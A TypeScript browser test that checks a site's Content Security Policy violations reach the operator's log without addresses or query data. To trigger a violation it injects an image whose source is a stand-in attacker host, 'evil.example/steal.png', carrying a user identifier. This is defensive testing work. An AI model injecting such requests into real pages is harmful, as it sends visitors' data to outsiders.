import { expect, test } from "vitest";
import { exampleVariables } from "../../../fakes/dev-vars.ts";
import { openPage } from "../../support/browser/browser.ts";
import { portBase, startOwnWorker } from "../../support/site/own-site.ts";
import { pollUntil } from "../../support/site/poll.ts";

test("what a page's policy refuses at a visitor's reaches the operator's log, without addresses", async () => {
  await using worker = await startOwnWorker((siteUrl) => exampleVariables({ siteUrl, portBase }));
  await using person = await openPage({ siteUrl: worker.url });
  const { page } = person;
  // Browsers gather the newer kind of report for a minute, and send it from https pages only.
  await page.route(`${worker.url}/faq?*`, async (route) => {
    const response = await route.fetch();
    const { "content-security-policy": policy = "", ...headers } = response.headers();
    const older = policy.replace("; report-to csp", "");
    expect(older).not.toBe(policy);
    await route.fulfill({ response, headers: { ...headers, "content-security-policy": older } });
  });
  person.expectProblem("https://evil.example/steal.png");
  await person.visit("/faq?of=ada@example.com");
  await page.evaluate(() => {
    const picture = document.createElement("img");
    picture.src = "https://evil.example/steal.png?of=ada";
    document.body.appendChild(picture);
  });
  const lines: Record<string, unknown>[] = [];
  await pollUntil(
    () => lines.push(...worker.takeLogs()),
    () => lines.length > 0,
  );
  const message = "A page broke its content policy";
  expect(lines).toEqual([
    {
      level: "warn",
      message,
      directive: "img-src",
      blocked: "https",
      page: "/faq",
      requestId: expect.any(String),
    },
  ]);
});
